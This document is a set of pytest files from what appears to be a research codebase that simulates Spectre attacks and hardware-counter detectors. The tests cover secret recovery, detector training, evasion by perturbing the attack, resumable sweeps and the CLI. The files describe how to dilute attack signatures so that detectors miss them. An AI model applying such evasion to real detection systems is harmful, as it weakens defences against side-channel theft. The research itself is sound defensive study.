        assert m.accuracy == 1.0
        assert m.precision == 1.0 and m.recall == 1.0

    def test_all_wrong(self):
        m = compute_metrics([0, 1], [1, 0])
        assert m.accuracy == 0.0

    def test_confusion_cells(self):
        m = compute_metrics([1, 1, 0, 0], [1, 0, 1, 0])
        assert (m.true_positives, m.false_negatives,
                m.false_positives, m.true_negatives) == (1, 1, 1, 1)

    def test_zero_division_guards(self):
        m = compute_metrics([0, 0], [0, 0])
        assert m.precision == 0.0 and m.recall == 0.0 and m.f1 == 0.0

    @settings(max_examples=40, deadline=None)
    @given(st.lists(st.tuples(st.integers(0, 1), st.integers(0, 1)),
                    min_size=1, max_size=60))
    def test_identities(self, pairs):
        y_true = [t for t, _ in pairs]
        y_pred = [p for _, p in pairs]
        m = compute_metrics(y_true, y_pred)
        assert m.total == len(pairs)
        assert 0.0 <= m.accuracy <= 1.0
        agreement = sum(t == p for t, p in pairs) / len(pairs)
        assert m.accuracy == pytest.approx(agreement)

    def test_describe(self):
        text = compute_metrics([1], [1]).describe()
        assert "acc=1.000" in text
