"""Scenario runner tests (small sample counts to stay fast)."""

import pytest

from repro.core.scenario import Scenario, ScenarioConfig
from repro.hid.dataset import ATTACK, BENIGN


@pytest.fixture(scope="module")
def scenario():
    return Scenario(ScenarioConfig(seed=6, measurement_noise=0.0))


class TestBenignSampling:
    def test_counts_and_labels(self, scenario):
        samples = scenario.benign_samples(12)
        assert len(samples) == 12
        assert all(s.label == BENIGN for s in samples)

    def test_host_only_mode(self, scenario):
        samples = scenario.benign_samples(6, include_extras=False)
        names = {s.process_name for s in samples}
        assert len(names) == 1

    def test_extras_included_by_default(self, scenario):
        samples = scenario.benign_samples(30)
        names = {s.process_name for s in samples}
        assert len(names) == 3  # host + browser + editor


class TestAttackSampling:
    def test_injection_produces_attack_windows(self, scenario):
        samples = scenario.attack_samples(10, variant="v1")
        assert len(samples) == 10
        assert all(s.label == ATTACK for s in samples)

    def test_attack_binaries_cached(self, scenario):
        first = scenario.install_attack("v1")
        second = scenario.install_attack("v1")
        assert first == second
        third = scenario.install_attack("rsb")
        assert third != first

    def test_mixed_variants(self, scenario):
        samples = scenario.attack_samples_mixed_variants(9)
        assert len(samples) == 9

    def test_perturbed_attack_differs(self, scenario):
        from repro.attack import PerturbParams

        plain = scenario.attack_samples(8, variant="v1")
        perturbed = scenario.attack_samples(
            8, variant="v1", perturb=PerturbParams(delay=1000,
                                                   calls_per_byte=2)
        )
        plain_misses = sum(
            s.events["total_cache_misses"] for s in plain
        )
        perturbed_misses = sum(
            s.events["total_cache_misses"] for s in perturbed
        )
        assert perturbed_misses < plain_misses  # dispersion dilutes


class TestSecretRecovery:
    def test_verify_via_injection(self, scenario):
        recovered, correct = scenario.verify_secret_recovery("v1")
        assert recovered == scenario.config.secret
        assert correct == len(scenario.config.secret)
