"""Kill a sweep mid-run, re-invoke it, and watch it resume.

The contract: a sweep killed between cells loses nothing it completed;
the re-run replays completed cells from the checkpoint file and only
computes the rest.
"""

import json

import pytest

from repro.core.experiments import fig6, run_fig4, run_fig6

FIG6_KNOBS = dict(
    seed=8, attempts=2, detector_names=("lr",), training_benign=40,
    training_attack=40, attempt_samples=12, attempt_benign=6,
)


class TestFig6KillAndResume:
    def test_kill_after_training_then_resume(self, tmp_path, monkeypatch):
        # ---- first invocation: dies (SIGINT) entering the spectre phase.
        real_train_detectors = fig6.train_detectors

        def killed(*args, **kwargs):
            raise KeyboardInterrupt

        monkeypatch.setattr(fig6, "train_detectors", killed)
        with pytest.raises(KeyboardInterrupt):
            run_fig6(checkpoint=tmp_path, **FIG6_KNOBS)

        # The completed cell survived the kill, atomically.
        payload = json.loads((tmp_path / "fig6.json").read_text())
        assert set(payload["cells"]) == {"training"}
        assert payload["cells"]["training"]["benign"]

        # ---- second invocation: resumes from the checkpoint.
        monkeypatch.setattr(fig6, "train_detectors", real_train_detectors)
        result = run_fig6(checkpoint=tmp_path, **FIG6_KNOBS)
        assert result.cell_status["training"]["status"] == "cached"
        assert result.cell_status["spectre"]["status"] == "ok"
        assert result.cell_status["crspectre"]["status"] == "ok"
        assert not result.partial
        assert len(result.crspectre["lr"]) == FIG6_KNOBS["attempts"]
        assert len(result.attacker_history) == FIG6_KNOBS["attempts"]

        # ---- third invocation: everything is served from the checkpoint.
        rerun = run_fig6(checkpoint=tmp_path, **FIG6_KNOBS)
        assert all(
            cell["status"] == "cached"
            for key, cell in rerun.cell_status.items()
            if key != "detectors"  # models are rebuilt, never persisted
        )
        assert rerun.crspectre == result.crspectre
        assert [r.params for r in rerun.attacker_history] == \
            [r.params for r in result.attacker_history]

    def test_different_knobs_discard_stale_cells(self, tmp_path,
                                                 monkeypatch):
        monkeypatch.setattr(
            fig6, "train_detectors",
            lambda *a, **k: (_ for _ in ()).throw(KeyboardInterrupt),
        )
        with pytest.raises(KeyboardInterrupt):
            run_fig6(checkpoint=tmp_path, **FIG6_KNOBS)
        # Same directory, different seed: the stale training cell must
        # not be replayed into the differently-configured sweep.
        knobs = dict(FIG6_KNOBS, seed=9)
        with pytest.raises(KeyboardInterrupt):
            run_fig6(checkpoint=tmp_path, **knobs)
        payload = json.loads((tmp_path / "fig6.json").read_text())
        assert payload["meta"]["seed"] == 9


class TestFig4Resume:
    def test_cached_rerun_reproduces_accuracies(self, tmp_path):
        knobs = dict(
            seed=8, hosts=("basicmath",), feature_sizes=(4,),
            classifier="lr", benign_per_host=30, attack_per_variant=10,
            variants=("v1",),
        )
        first = run_fig4(checkpoint=tmp_path, **knobs)
        assert first.cell_status["host/basicmath"]["status"] == "ok"
        resumed = run_fig4(checkpoint=tmp_path, **knobs)
        assert resumed.cell_status["host/basicmath"]["status"] == "cached"
        assert resumed.accuracies == first.accuracies
