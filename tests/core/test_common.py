"""Experiment-helper (core.experiments.common) tests."""

import numpy as np

from repro.core.experiments.common import (
    DETECTOR_LEGENDS,
    DETECTOR_NAMES,
    SEARCH_LADDER,
    attempt_dataset,
    benign_eval_pool,
    mean_accuracy,
    split_training,
    train_detectors,
)
from repro.hid.dataset import ATTACK, BENIGN, Dataset, Sample


def _sample(label, scale):
    events = {
        "total_cache_misses": 100.0 * scale,
        "total_cache_accesses": 800.0 + 50 * scale,
        "branch_mispredictions": 3.0 * scale,
        "branch_instructions": 500.0,
    }
    return Sample("p", label, events)


def _training_samples():
    benign = [_sample(BENIGN, 0.1 + 0.01 * i) for i in range(40)]
    attack = [_sample(ATTACK, 2.0 + 0.01 * i) for i in range(40)]
    return benign, attack


class TestDetectorSetup:
    def test_four_paper_detectors(self):
        assert set(DETECTOR_NAMES) == {"mlp", "nn", "lr", "svm"}
        assert set(DETECTOR_LEGENDS) == set(DETECTOR_NAMES)

    def test_train_detectors_all_fitted(self):
        benign, attack = _training_samples()
        train, test = split_training(benign, attack, seed=1)
        detectors = train_detectors(train, ("lr", "svm"), seed=1)
        assert set(detectors) == {"lr", "svm"}
        for detector in detectors.values():
            assert detector.accuracy_on(test) > 0.9

    def test_online_flag(self):
        from repro.hid.detector import OnlineHidDetector

        benign, attack = _training_samples()
        train, _ = split_training(benign, attack, seed=1)
        detectors = train_detectors(train, ("lr",), seed=1, online=True)
        assert isinstance(detectors["lr"], OnlineHidDetector)


class TestDatasetHelpers:
    def test_attempt_dataset_labels(self):
        benign, attack = _training_samples()
        dataset = attempt_dataset(benign[:5], attack[:7])
        counts = dataset.class_counts()
        assert counts[BENIGN] == 5 and counts[ATTACK] == 7

    def test_mean_accuracy(self):
        benign, attack = _training_samples()
        train, test = split_training(benign, attack, seed=1)
        detectors = train_detectors(train, ("lr", "svm"), seed=1)
        mean = mean_accuracy(detectors, test)
        individual = [d.accuracy_on(test) for d in detectors.values()]
        assert mean == sum(individual) / 2

    def test_benign_eval_pool(self):
        dataset = Dataset(
            np.arange(12).reshape(6, 2),
            np.array([0, 1, 0, 1, 0, 1]),
            ("a", "b"),
        )
        pool = benign_eval_pool(dataset)
        assert len(pool) == 3
        assert set(pool.y) == {0}


class TestSearchLadder:
    def test_starts_at_paper_defaults(self):
        first = SEARCH_LADDER[0]
        assert (first.a, first.b, first.loop_count) == (11, 6, 10)
        assert first.delay == 0

    def test_escalates_dispersion(self):
        delays = [params.delay for params in SEARCH_LADDER]
        assert delays[-1] > delays[0]
        assert delays == sorted(delays)
