"""Timeline/phase-analysis tests."""

from hypothesis import given, settings, strategies as st

from repro.core.timeline import (
    burst_fraction,
    detect_phases,
    render_timeline,
    series_from_samples,
    _bucket,
)
from repro.hid.dataset import Sample


def _windows(values, event="total_cache_misses"):
    return [
        Sample("p", 0, {event: value, "total_cache_accesses": 0.0,
                        "branch_mispredictions": 0.0,
                        "branch_instructions": 0.0})
        for value in values
    ]


class TestSeries:
    def test_extraction(self):
        samples = _windows([1, 2, 3])
        assert series_from_samples(samples, "total_cache_misses") == \
            [1.0, 2.0, 3.0]


class TestBucketing:
    def test_short_series_unchanged(self):
        assert _bucket([1.0, 2.0], 10) == [1.0, 2.0]

    def test_downsample_width(self):
        assert len(_bucket(list(range(100)), 10)) == 10

    def test_bucket_averages(self):
        bucketed = _bucket([0.0, 10.0, 0.0, 10.0], 2)
        assert bucketed == [5.0, 5.0]

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.floats(min_value=0, max_value=1e6,
                              allow_nan=False), min_size=1, max_size=300),
           st.integers(min_value=1, max_value=80))
    def test_bucketed_range_within_original(self, series, width):
        bucketed = _bucket(series, width)
        assert len(bucketed) <= max(width, 1)
        assert min(series) - 1e-9 <= min(bucketed)
        assert max(bucketed) <= max(series) + 1e-9


class TestPhases:
    def test_flat_series_is_quiet(self):
        phases = detect_phases(_windows([0, 0, 0, 0]))
        assert phases == [("quiet", 0, 4)]

    def test_alternation(self):
        phases = detect_phases(_windows([100, 0, 100, 0]))
        kinds = [phase for phase, _, _ in phases]
        assert kinds == ["burst", "quiet", "burst", "quiet"]

    def test_lengths_cover_series(self):
        values = [100, 100, 0, 0, 0, 100]
        phases = detect_phases(_windows(values))
        assert sum(length for _, _, length in phases) == len(values)

    def test_explicit_threshold(self):
        phases = detect_phases(_windows([1, 5, 1]), threshold=3)
        assert [p for p, _, _ in phases] == ["quiet", "burst", "quiet"]

    def test_empty(self):
        assert detect_phases([]) == []


class TestBurstFraction:
    def test_all_quiet(self):
        assert burst_fraction(_windows([0, 0, 0])) == 0.0

    def test_single_spike(self):
        assert burst_fraction(_windows([0] * 9 + [100])) == 0.1

    def test_all_burst_with_threshold(self):
        assert burst_fraction(_windows([10, 12, 11]), threshold=5) == 1.0

    def test_empty(self):
        assert burst_fraction([]) == 0.0


class TestRender:
    def test_contains_event_rows(self):
        text = render_timeline(_windows([1, 2, 3]), title="T")
        assert text.startswith("T")
        assert "total_cache_misses" in text
        assert "branch_instructions" in text

    def test_no_samples(self):
        assert "(no samples)" in render_timeline([])
