"""Reporting helper tests."""

from repro.core.reporting import (
    format_percent,
    format_series,
    format_table,
    sparkline,
)


class TestFormatTable:
    def test_alignment(self):
        table = format_table(
            ["name", "value"],
            [["a", 1], ["longer", 22]],
            title="T",
        )
        lines = table.splitlines()
        assert lines[0] == "T"
        assert "name" in lines[1]
        # all rows same width structure
        assert lines[2].count("-") > 0

    def test_cell_stringification(self):
        table = format_table(["x"], [[3.5], [None]])
        assert "3.5" in table and "None" in table


class TestSeries:
    def test_format_series(self):
        assert format_series("mlp", [1.0, 2.5]) == "mlp: 1.0 2.5"

    def test_custom_format(self):
        assert format_series("x", [0.123], fmt="{:.2f}") == "x: 0.12"


class TestSparkline:
    def test_monotonic_shape(self):
        line = sparkline([0, 50, 100], lo=0, hi=100)
        assert line[0] < line[1] < line[2]

    def test_constant_series(self):
        assert len(sparkline([5, 5, 5])) == 3

    def test_empty(self):
        assert sparkline([]) == ""

    def test_bounds_clamped(self):
        line = sparkline([0, 100], lo=0, hi=100)
        assert line == "▁█"


class TestPercent:
    def test_format_percent(self):
        assert format_percent(0.163) == "16.3%"
