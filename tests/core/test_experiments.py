"""Miniature runs of every experiment: shapes, not magnitudes.

Full-scale regeneration lives in benchmarks/; these keep the experiment
plumbing honest at a few seconds total.
"""

import pytest

from repro.core.experiments import (
    run_fig4,
    run_fig5,
    run_fig6,
    run_table1,
)
from repro.core.experiments.common import co_run
from repro.core.scenario import Scenario, ScenarioConfig


@pytest.fixture(scope="module")
def shared_training():
    """One scenario + training corpus reused by the fig5/fig6 minis."""
    scenario = Scenario(ScenarioConfig(seed=8))
    benign = scenario.benign_samples(90)
    attack = scenario.attack_samples_mixed_variants(90)
    return scenario, (benign, attack)


class TestFig4Mini:
    def test_shape(self):
        result = run_fig4(
            seed=8, hosts=("basicmath",), feature_sizes=(4, 1),
            benign_per_host=60, attack_per_variant=20,
            variants=("v1",),
        )
        acc4 = result.accuracies["basicmath"][4]
        acc1 = result.accuracies["basicmath"][1]
        assert acc4 > 0.85
        assert acc4 >= acc1
        assert "Fig. 4" in result.format()


class TestFig5Mini:
    def test_offline_detection_vs_evasion(self, shared_training):
        scenario, training = shared_training
        result = run_fig5(
            seed=8, attempts=2, detector_names=("mlp", "lr"),
            attempt_samples=24, attempt_benign=8,
            scenario=scenario, training=training,
        )
        plain = result.mean_accuracy("spectre")
        evaded = result.mean_accuracy("crspectre")
        assert plain > 0.8
        assert evaded < plain
        assert result.chosen_params is not None
        assert "Fig. 5" in result.format()


class TestFig6Mini:
    def test_online_dynamics(self, shared_training):
        scenario, training = shared_training
        result = run_fig6(
            seed=8, attempts=3, detector_names=("lr",),
            attempt_samples=24, attempt_benign=8,
            scenario=scenario, training=training,
        )
        assert len(result.attacker_history) == 3
        series = result.crspectre["lr"]
        assert len(series) == 3
        assert all(0.0 <= v <= 1.0 for v in series)
        assert "Fig. 6" in result.format()


class TestTable1Mini:
    def test_overhead_small_and_positive_shape(self):
        result = run_table1(
            seed=8,
            rows=(("Math", "basicmath", (60,)),),
            repetitions=1,
            quantum=5000,
        )
        [row] = result.rows
        assert row.original_ipc > 0
        assert row.offline_ipc > 0
        # overhead is small either way; bound it loosely
        assert abs(row.offline_overhead) < 0.15
        assert "Table I" in result.format()
        off, on = result.average_overheads()
        assert isinstance(off, float) and isinstance(on, float)


class TestCoRun:
    def test_stops_when_primary_exits(self):
        from repro.kernel import System, build_binary

        system = System(seed=1)
        system.install_binary("/bin/short", build_binary("short", """
        main:
            li a0, 0
            call libc_exit
        """))
        system.install_binary("/bin/long", build_binary("long", """
        main:
        spin:
            jmp spin
        """))
        short = system.spawn("/bin/short")
        long_ = system.spawn("/bin/long")
        co_run([short, long_], quantum=100)
        assert not short.alive
        assert long_.alive


class TestHardeningMini:
    def test_shape(self, shared_training):
        from repro.core.experiments import run_hardening

        scenario, _ = shared_training
        result = run_hardening(
            seed=8, train_variant_counts=(0, 3), holdout_variants=2,
            samples_per_variant=20, training_benign=90,
            training_attack=60, scenario=scenario,
        )
        assert set(result.accuracy_by_k) == {0, 3}
        for accuracy in result.accuracy_by_k.values():
            assert 0.0 <= accuracy <= 1.0
        assert "Hardening" in result.format()
