"""Resilience layer: fault matrix, retry/backoff, watchdog, checkpoints.

The contract under test: every injected fault kind surfaces as a typed
error or a degraded (partial) report — never a hang, never a truncated
file.
"""

import json
import os

import pytest

from repro.attack.calibrate import calibrate
from repro.core.experiments import run_fig4
from repro.core.experiments.common import train_detectors
from repro.core.resilience import (
    FAULT_KINDS,
    CheckpointStore,
    FaultInjector,
    Retrier,
    RetryPolicy,
    VirtualClock,
    Watchdog,
    run_cell,
    sweep_partial,
    with_retry,
)
from repro.errors import (
    BudgetExceededError,
    CalibrationError,
    CheckpointError,
    ClassifierConvergenceError,
    FatalError,
    RetryExhaustedError,
    SampleCorruptionError,
    TransientError,
    is_transient,
)


class TestWatchdog:
    def test_counts_and_trips(self):
        watchdog = Watchdog(100, label="unit")
        watchdog.charge(60)
        assert watchdog.consumed == 60
        assert watchdog.remaining == 40
        assert not watchdog.exhausted
        with pytest.raises(BudgetExceededError) as info:
            watchdog.charge(50)
        assert info.value.consumed == 110
        assert info.value.budget == 100
        assert "unit" in str(info.value)
        assert watchdog.exhausted

    def test_budget_error_is_not_transient(self):
        try:
            Watchdog(1).charge(2)
        except BudgetExceededError as exc:
            assert not is_transient(exc)

    def test_infinite_rop_chain_is_bounded(self):
        """A non-halting injected chain trips the watchdog, not a hang."""
        from repro.core.resilience import RUNAWAY_SOURCE
        from repro.kernel import System, build_binary

        system = System(seed=3)
        system.install_binary(
            "/bin/runaway", build_binary("runaway", RUNAWAY_SOURCE)
        )
        process = system.spawn("/bin/runaway")
        watchdog = Watchdog(30_000, label="rop-chain")
        with pytest.raises(BudgetExceededError):
            process.run_to_completion(
                max_instructions=10_000_000, watchdog=watchdog
            )
        # The budget is enforced to within one charge stride.
        assert watchdog.consumed <= 30_000 + process.cpu.WATCHDOG_STRIDE
        # The machine survives the trip and can be resumed or retired.
        assert process.cpu.watchdog is None

    def test_scheduler_run_charges_watchdog(self):
        from repro.core.experiments.common import co_run
        from repro.kernel import System, build_binary

        system = System(seed=3)
        system.install_binary("/bin/spin", build_binary("spin", """
        main:
        spin:
            jmp spin
        """))
        process = system.spawn("/bin/spin")
        with pytest.raises(BudgetExceededError):
            co_run([process], quantum=1000, watchdog=Watchdog(5000))


class TestRetry:
    def test_backoff_grows_and_caps(self):
        policy = RetryPolicy(base_delay=1.0, multiplier=2.0,
                             max_delay=5.0, jitter=0.0)
        import random
        rng = random.Random(0)
        delays = [policy.delay_for(n, rng) for n in (1, 2, 3, 4, 5)]
        assert delays == [1.0, 2.0, 4.0, 5.0, 5.0]

    def test_retries_transient_until_success(self):
        attempts = []

        def flaky():
            attempts.append(1)
            if len(attempts) < 3:
                raise CalibrationError("noise")
            return "done"

        retrier = Retrier(RetryPolicy(max_attempts=5, seed=4))
        assert retrier.call(flaky) == "done"
        assert len(attempts) == 3
        assert [t.outcome for t in retrier.telemetry] == \
            ["error", "error", "ok"]
        assert retrier.clock.sleeps == 2
        assert retrier.clock.elapsed > 0.0

    def test_exhaustion_chains_cause(self):
        def always_fails():
            raise CalibrationError("still noisy")

        retrier = Retrier(RetryPolicy(max_attempts=3, seed=4))
        with pytest.raises(RetryExhaustedError) as info:
            retrier.call(always_fails)
        assert info.value.attempts == 3
        assert isinstance(info.value.__cause__, CalibrationError)
        assert is_transient(info.value)  # via the cause chain

    def test_fatal_errors_not_retried(self):
        calls = []

        def broken():
            calls.append(1)
            raise FatalError("bad config")

        retrier = Retrier(RetryPolicy(max_attempts=5, seed=4))
        with pytest.raises(FatalError):
            retrier.call(broken)
        assert len(calls) == 1

    def test_same_seed_same_schedule(self):
        def fails():
            raise CalibrationError("x")

        schedules = []
        for _ in range(2):
            retrier = Retrier(RetryPolicy(max_attempts=4, seed=11))
            with pytest.raises(RetryExhaustedError):
                retrier.call(fails)
            schedules.append([t.backoff for t in retrier.telemetry])
        assert schedules[0] == schedules[1]

    def test_decorator_exposes_retrier(self):
        state = {"n": 0}

        @with_retry(RetryPolicy(max_attempts=3, seed=2),
                    clock=VirtualClock())
        def sometimes():
            state["n"] += 1
            if state["n"] == 1:
                raise TransientError("first one free")
            return state["n"]

        assert sometimes() == 2
        assert len(sometimes.retrier.telemetry) == 2


class TestFaultMatrix:
    """Each fault kind -> a typed error or a degraded report."""

    def test_unknown_kind_rejected(self):
        with pytest.raises(ValueError):
            FaultInjector(rates={"gremlins": 1.0})

    def test_hpc_drop_all_raises_typed(self):
        from repro.core.scenario import Scenario, ScenarioConfig

        faults = FaultInjector(seed=0, rates={"hpc_drop": 1.0})
        scenario = Scenario(ScenarioConfig(seed=0), faults=faults)
        with pytest.raises(SampleCorruptionError):
            scenario.benign_samples(4)

    def test_hpc_garble_degrades_not_raises(self):
        from repro.core.scenario import Scenario, ScenarioConfig

        clean = Scenario(ScenarioConfig(seed=0)).benign_samples(3)
        faults = FaultInjector(seed=0, rates={"hpc_garble": 1.0})
        garbled = Scenario(
            ScenarioConfig(seed=0), faults=faults
        ).benign_samples(3)
        assert len(garbled) == len(clean)
        assert any(
            g.events != c.events for g, c in zip(garbled, clean)
        )

    def test_miscalibration_exhausts_retries_typed(self):
        faults = FaultInjector(seed=0, rates={"miscalibration": 1.0})
        with pytest.raises(RetryExhaustedError) as info:
            calibrate(seed=0, faults=faults,
                      retry_policy=RetryPolicy(max_attempts=2, seed=0))
        assert isinstance(info.value.__cause__, CalibrationError)

    def test_miscalibration_recovers_under_cap(self):
        faults = FaultInjector(seed=0, rates={"miscalibration": 1.0},
                               max_fires=1)
        result = calibrate(seed=0, faults=faults)
        assert result.separable
        assert len(calibrate.last_retrier.telemetry) == 2

    def test_runaway_speculation_recovers_via_watchdog(self):
        faults = FaultInjector(
            seed=0, rates={"runaway_speculation": 1.0}, max_fires=1
        )
        result = calibrate(seed=0, faults=faults)
        assert result.separable
        errors = [t.error for t in calibrate.last_retrier.telemetry
                  if t.outcome == "error"]
        assert any("CalibrationError" in e for e in errors)

    def test_classifier_divergence_raises_typed(self):
        from repro.core.scenario import Scenario, ScenarioConfig
        from repro.core.experiments.common import split_training

        scenario = Scenario(ScenarioConfig(seed=0))
        benign = scenario.benign_samples(30)
        attack = scenario.attack_samples_mixed_variants(30)
        train, _ = split_training(benign, attack, seed=0)
        faults = FaultInjector(
            seed=0, rates={"classifier_divergence": 1.0}
        )
        with pytest.raises(ClassifierConvergenceError):
            train_detectors(train, ("lr",), seed=0, faults=faults)

    def test_divergence_degrades_sweep_to_partial(self):
        faults = FaultInjector(
            seed=0, rates={"classifier_divergence": 1.0}
        )
        result = run_fig4(
            seed=0, hosts=("basicmath",), feature_sizes=(4,),
            classifier="lr", benign_per_host=30, attack_per_variant=10,
            variants=("v1",), faults=faults,
        )
        assert result.partial
        assert result.accuracies == {}
        status = result.cell_status["host/basicmath"]
        assert status["status"] == "failed"
        assert "ClassifierConvergenceError" in status["error"]
        assert "WARNING: partial results" in result.format()

    def test_cache_corruption_flushes(self):
        class _Caches:
            flushed = 0

            def flush_all(self):
                self.flushed += 1

        caches = _Caches()
        faults = FaultInjector(seed=0, rates={"cache_corruption": 1.0})
        assert faults.corrupt_cache(caches)
        assert caches.flushed == 1

    def test_every_kind_consultable_and_logged(self):
        faults = FaultInjector(
            seed=0, rates={kind: 1.0 for kind in FAULT_KINDS}
        )
        for kind in FAULT_KINDS:
            assert faults.should_fire(kind, context="matrix")
        assert faults.summary() == {kind: 1 for kind in FAULT_KINDS}
        assert len(faults.log) == len(FAULT_KINDS)

    def test_same_seed_same_decisions(self):
        logs = []
        for _ in range(2):
            faults = FaultInjector(
                seed=9, rates={kind: 0.5 for kind in FAULT_KINDS}
            )
            for index in range(20):
                faults.should_fire(
                    FAULT_KINDS[index % len(FAULT_KINDS)], context="det"
                )
            logs.append(faults.log)
        assert logs[0] == logs[1]


class TestCheckpointStore:
    def test_roundtrip(self, tmp_path):
        path = tmp_path / "sweep.json"
        store = CheckpointStore(path, meta={"experiment": "t", "seed": 1})
        store.put("cell/a", {"value": 1})
        reopened = CheckpointStore(
            path, meta={"experiment": "t", "seed": 1}
        )
        assert "cell/a" in reopened
        assert reopened.get("cell/a") == {"value": 1}

    def test_meta_mismatch_discards(self, tmp_path):
        path = tmp_path / "sweep.json"
        CheckpointStore(path, meta={"seed": 1}).put("cell/a", 1)
        reopened = CheckpointStore(path, meta={"seed": 2})
        assert reopened.discarded
        assert "cell/a" not in reopened

    def test_corrupt_file_raises_typed(self, tmp_path):
        path = tmp_path / "sweep.json"
        path.write_text("{ truncated")
        with pytest.raises(CheckpointError):
            CheckpointStore(path, meta={"seed": 1})

    def test_unserialisable_value_rejected(self, tmp_path):
        store = CheckpointStore(tmp_path / "s.json", meta={})
        with pytest.raises(CheckpointError):
            store.put("cell/a", object())

    def test_writes_are_atomic(self, tmp_path):
        """Every put leaves a complete JSON file and no temp litter."""
        path = tmp_path / "sweep.json"
        store = CheckpointStore(path, meta={"seed": 1})
        for index in range(10):
            store.put(f"cell/{index}", list(range(index)))
            payload = json.loads(path.read_text())
            assert len(payload["cells"]) == index + 1
        assert [p for p in os.listdir(tmp_path)
                if p.endswith(".tmp")] == []


class TestRunCell:
    def test_status_lifecycle(self, tmp_path):
        store = CheckpointStore(tmp_path / "s.json", meta={})
        statuses = {}
        assert run_cell("a", lambda: 41, store, statuses) == 41
        assert statuses["a"]["status"] == "ok"
        # Second run of the same sweep: served from the checkpoint.
        statuses = {}
        assert run_cell("a", lambda: 1 / 0, store, statuses) == 41
        assert statuses["a"]["status"] == "cached"
        assert not sweep_partial(statuses)

    def test_recoverable_failure_degrades(self):
        statuses = {}

        def boom():
            try:
                raise ValueError("root cause")
            except ValueError as exc:
                raise CalibrationError("wrapped") from exc

        assert run_cell("b", boom, None, statuses) is None
        assert statuses["b"]["status"] == "failed"
        assert "CalibrationError" in statuses["b"]["error"]
        assert "ValueError" in statuses["b"]["error"]
        assert sweep_partial(statuses)

    def test_fatal_failure_propagates(self):
        with pytest.raises(ZeroDivisionError):
            run_cell("c", lambda: 1 / 0, None, {})


class TestDeterminism:
    def test_same_seed_same_report_under_faults(self):
        """Two same-seed runs (faults armed) produce identical reports."""
        reports = []
        for _ in range(2):
            faults = FaultInjector(
                seed=5,
                rates={"hpc_garble": 0.2, "classifier_divergence": 0.3},
            )
            result = run_fig4(
                seed=5, hosts=("basicmath",), feature_sizes=(4, 1),
                classifier="lr", benign_per_host=30,
                attack_per_variant=10, variants=("v1",), faults=faults,
            )
            reports.append(result.format())
        assert reports[0] == reports[1]

    def test_same_seed_same_calibration_telemetry(self):
        telemetries = []
        for _ in range(2):
            faults = FaultInjector(
                seed=6, rates={"miscalibration": 0.6}, max_fires=2
            )
            calibrate(seed=6, faults=faults)
            telemetries.append(calibrate.last_retrier.telemetry)
        assert telemetries[0] == telemetries[1]
