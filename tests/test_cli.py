"""CLI tests (fast paths only; the experiment commands are bench-scale)."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_attack_defaults(self):
        args = build_parser().parse_args(["attack"])
        assert args.variant == "v1"
        assert args.delay == 0

    def test_unknown_variant_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "--variant", "v9"])

    def test_every_command_parses(self):
        for argv in (["attack"], ["gadgets"], ["disasm"], ["workloads"],
                     ["fig4"], ["fig5"], ["fig6"], ["table1"],
                     ["profile"]):
            assert build_parser().parse_args(argv).command == argv[0]


class TestCommands:
    def test_workloads_lists(self, capsys):
        assert main(["workloads"]) == 0
        out = capsys.readouterr().out
        assert "basicmath" in out
        assert "browser" in out

    def test_gadgets(self, capsys):
        assert main(["gadgets", "--limit", "3"]) == 0
        out = capsys.readouterr().out
        assert "ret" in out

    def test_disasm(self, capsys):
        assert main(["disasm", "--workload", "bitcount"]) == 0
        out = capsys.readouterr().out
        assert "workload" not in out  # raw listing, no symbols
        assert "0x00400000" in out

    def test_profile_writes_csv(self, tmp_path, capsys):
        output = tmp_path / "t.csv"
        assert main(["profile", "--workload", "bitcount",
                     "--samples", "4", "--output", str(output)]) == 0
        header = output.read_text().splitlines()[0]
        assert header.startswith("process_name,label,instructions")
        assert len(output.read_text().splitlines()) == 5

    def test_attack_end_to_end(self, capsys):
        assert main(["attack", "--variant", "rsb",
                     "--secret", "short"]) == 0
        out = capsys.readouterr().out
        assert "5/5 bytes correct" in out


class TestQuickExperiments:
    def test_quick_flag_parses(self):
        args = build_parser().parse_args(["fig5", "--quick"])
        assert args.quick is True

    def test_fig4_quick_runs(self, capsys):
        assert main(["fig4", "--quick", "--seed", "3"]) == 0
        out = capsys.readouterr().out
        assert "Fig. 4" in out
