"""CLI tests (fast paths only; the experiment commands are bench-scale)."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_attack_defaults(self):
        args = build_parser().parse_args(["attack"])
        assert args.variant == "v1"
        assert args.delay == 0

    def test_unknown_variant_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["attack", "--variant", "v9"])

    def test_every_command_parses(self):
        for argv in (["attack"], ["gadgets"], ["disasm"], ["workloads"],
                     ["fig4"], ["fig5"], ["fig6"], ["table1"],
                     ["profile"]):
            assert build_parser().parse_args(argv).command == argv[0]


class TestCommands:
    def test_workloads_lists(self, capsys):
        assert main(["workloads"]) == 0
        out = capsys.readouterr().out
        assert "basicmath" in out
        assert "browser" in out

    def test_gadgets(self, capsys):
        assert main(["gadgets", "--limit", "3"]) == 0
        out = capsys.readouterr().out
        assert "ret" in out

    def test_disasm(self, capsys):
        assert main(["disasm", "--workload", "bitcount"]) == 0
        out = capsys.readouterr().out
        assert "workload" not in out  # raw listing, no symbols
        assert "0x00400000" in out

    def test_profile_writes_csv(self, tmp_path, capsys):
        output = tmp_path / "t.csv"
        assert main(["profile", "--workload", "bitcount",
                     "--samples", "4", "--output", str(output)]) == 0
        header = output.read_text().splitlines()[0]
        assert header.startswith("process_name,label,instructions")
        assert len(output.read_text().splitlines()) == 5

    def test_attack_end_to_end(self, capsys):
        assert main(["attack", "--variant", "rsb",
                     "--secret", "short"]) == 0
        out = capsys.readouterr().out
        assert "5/5 bytes correct" in out


class TestQuickExperiments:
    def test_quick_flag_parses(self):
        args = build_parser().parse_args(["fig5", "--quick"])
        assert args.quick is True

    def test_fig4_quick_runs(self, capsys):
        assert main(["fig4", "--quick", "--seed", "3",
                     "--no-ledger"]) == 0
        out = capsys.readouterr().out
        assert "Fig. 4" in out


class TestUarchFlag:
    def test_defaults_to_inorder(self):
        for command in ("fig4", "fig5", "fig6", "table1", "hardening",
                        "smoke"):
            assert build_parser().parse_args([command]).uarch == "inorder"

    def test_ooo_accepted(self):
